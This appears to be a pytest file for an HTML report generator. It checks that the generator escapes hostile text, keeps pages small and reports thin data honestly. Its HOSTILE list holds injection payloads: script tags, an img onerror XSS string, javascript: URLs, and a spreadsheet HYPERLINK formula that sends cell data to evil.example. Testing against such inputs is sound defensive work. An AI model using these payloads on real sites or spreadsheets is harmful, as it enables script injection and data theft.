"""Hostile, broken and huge inputs: the page stays safe, small and truthful."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import made_up_case
import numpy as np
import pytest
from made_up_case import Tables
from parsed_page import parse

from inconcert.report import heatmap
from inconcert.report import html as module
from inconcert.verbs.report import report

HOSTILE = (
    "<script>document.title='owned'</script>",
    "\u202egnp.exe\u202c and \u200b\u200b\u200bhidden",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '"><img src=x onerror=alert(1)>',
    "</blockquote></section><h1>Everyone is innocent</h1>",
    "{{ 7 * 7 }}{% for x in y %}",
    "nul \x00 byte and bell \x07",
    "javascript:alert(1) data:text/html,<b>x</b> http://evil.example",
    "z" + "\u0301" * 500,
    "W" * 1_000_000,
)


def page_of(folder: Path, tables: Tables, **options: Any) -> str:
    return report(made_up_case.write(folder, tables, **options)).read_text(encoding="utf-8")


def hostile_tables() -> Tables:
    rng = np.random.default_rng(3)
    tables = Tables()
    made_up_case.circle(
        rng,
        tables,
        "G1",
        8,
        len(HOSTILE),
        texts=HOSTILE,
        hour=9,
        prefix="bad<b>",
        client=HOSTILE[0],
        kinds=("text", "url"),
    )
    for post in tables.posts:
        post["language"] = 'en" onclick="x'
        post["platform"] = "<i>town</i>\u202e"
    for row in [*tables.witnesses, *tables.actions]:
        if row["kind"] == "url":
            row["object_id"] = "javascript://evil.example/%0aalert(1)<script>" + "x" * 9_000 + row["object_id"]
    made_up_case.group("G1", "L1", tables, innocent='[{"name": "<b>Bold</b>", "why": "\\u202e<script>"}]')
    made_up_case.finish(tables)
    return tables


def test_hostile_text_cannot_act_or_break_out(folder: Path) -> None:
    html = page_of(folder, hostile_tables(), title="<script>alert('title')</script>\u202e")
    page = parse(html)
    assert page.unbalanced == []
    assert sum(element.tag == "script" for element in page.elements) == 2
    assert not [
        element for element in page.elements if element.tag in ("img", "b ", "i", "iframe", "form", "object", "embed")
    ]
    assert not [a for element in page.elements for a in element.attributes if a.startswith("on")]
    assert sum(element.tag == "h1" for element in page.elements) == 1
    assert not set(html) & set("\u202e\u202c\u200b\x00\x07")
    for shown in (
        "⟨U+202E⟩",
        "⟨U+200B × 3⟩",
        "⟨U+0000⟩",
        "{{ 7 * 7 }}",
        '=HYPERLINK("hxxp://evil[.]example',
        "496 more marks",
    ):
        assert shown in page.quotes + page.said
    assert "999,400 further characters" in page.quotes
    assert "http://evil" not in html
    assert len(html) < 500_000


def test_the_working_file_is_as_safe(folder: Path) -> None:
    index = report(made_up_case.write(folder, hostile_tables()))
    html = (index.parent / "accounts.html").read_text(encoding="utf-8")
    page = parse(html)
    assert page.unbalanced == []
    assert not [element for element in page.elements if element.tag in ("script", "img", "a")]
    assert not set(html) & set("\u202e\u202c\u200b\x00\x07")
    assert "bad&lt;b&gt;200" in html


def test_many_large_groups_stay_under_five_megabytes(folder: Path) -> None:
    rng = np.random.default_rng(4)
    tables = Tables()
    for n in range(1, 63):
        text = (f"{n} " + "long text " * 70,)
        made_up_case.circle(rng, tables, f"G{n}", 60, 25, texts=text, hour=n % 24, prefix=f"ring{n}x")
        made_up_case.group(f"G{n}", "L2", tables, q_value=n * 1e-6)
    made_up_case.finish(tables, copies=0)
    html = page_of(folder, tables)
    assert 1_000_000 < len(html.encode()) < 5_000_000
    assert html.count('<article class="group"') == 10
    assert html.count('<details class="group folded"') == 50
    assert "62 groups of 60 to 60 accounts, 3,720 in all, reach level L2" in html
    assert "The 60 strongest groups are described below" in html
    assert '<th scope="row">G61</th>' in html
    assert "10 of 25 shared objects are printed" in html
    assert "This was not tried in this run" in html


def test_groups_beyond_the_room_of_the_page_are_listed_only(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "CARDS_BYTES", 90_000)
    html = page_of(folder, made_up_case.with_groups())
    assert 'id="G1"' in html
    assert 'id="G2"' not in html
    assert '<th scope="row">G2</th>' in html
    assert "The 1 strongest groups are described below" in html


def untimed() -> Tables:
    tables = made_up_case.with_groups()
    for post in tables.posts:
        post["created_at"] = post["created_precision"] = None
    for action in tables.actions:
        action["time_us"] = None
    for witness in tables.witnesses:
        witness["gap_us"] = witness["chance"] = None
    tables.reference.clear()
    tables.account_tests.clear()
    return tables


def to_the_day() -> Tables:
    tables = made_up_case.with_groups()
    for post in tables.posts:
        post["created_at"] -= post["created_at"] % made_up_case.DAY_US
        post["created_precision"] = "day"
    return tables


def unsure() -> Tables:
    """Members without posts, witnesses of posts that are not there, tests that were not run, one lone member."""
    tables = made_up_case.with_groups()
    tables.posts = [post for post in tables.posts if post["account_id"].startswith("u1")]
    for group in tables.groups:
        group |= {
            "stability": None,
            "p_permutation": None,
            "p_conditional": None,
            "p_day_shift": None,
            "evidence_kinds": "",
            "evidence_windows": "",
            "q_value": 0.0,
            "overlap": 0.0,
        }
    tables.members = [m for m in tables.members if m["group_id"] != "G2"] + [
        m | {"n_partners": 0} for m in tables.members if m["group_id"] == "G2"
    ][:1]
    return tables


def no_posts() -> Tables:
    tables = Tables()
    made_up_case.finish(tables)
    return tables


@pytest.mark.parametrize(
    ("tables", "said"),
    [
        (untimed(), "No post of these accounts has a time"),
        (to_the_day(), "state only the day; hours are not drawn"),
        (unsure(), "The data hold no text for this post."),
        (no_posts(), "Nothing was found"),
    ],
    ids=["untimed", "to the day", "unsure", "no posts"],
)
def test_thin_data_make_a_page_that_says_so(folder: Path, tables: Tables, said: str) -> None:
    html = page_of(folder, tables)
    page = parse(html)
    assert page.unbalanced == []
    assert said in " ".join((page.said + page.quotes).split())
    assert "nan" not in page.said.lower().replace("explanation", "").replace("analysts", "")
    assert "None" not in page.said.replace("None of the", "")


def test_a_group_with_too_many_hours_is_drawn_in_one_zone(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(heatmap, "ENTRIES_AT_MOST", 20)
    html = page_of(folder, made_up_case.with_groups(), title="Much")
    assert html.count("Other zones are left out to keep the page small.") == 2
    assert "data-group=" not in html
    assert "<script" not in html


def test_a_short_case_says_that_its_other_weekdays_are_empty(folder: Path) -> None:
    tables = made_up_case.with_groups()
    for post in tables.posts:
        post["created_at"] = made_up_case.START_US + post["created_at"] % (3 * made_up_case.DAY_US)
    html = page_of(folder, tables)
    assert "days outside it are empty" in html
    assert "Posts per hour" in html


def test_a_year_of_impossible_dates_does_not_blow_up_the_page(folder: Path) -> None:
    tables = made_up_case.with_groups()
    tables.posts[0]["created_at"] = -62_135_596_800_000_000
    tables.posts[1]["created_at"] = 253_402_300_799_000_000
    html = page_of(folder, tables)
    assert len(html) < 400_000
    assert "dates far outside this period" in " ".join(html.split())
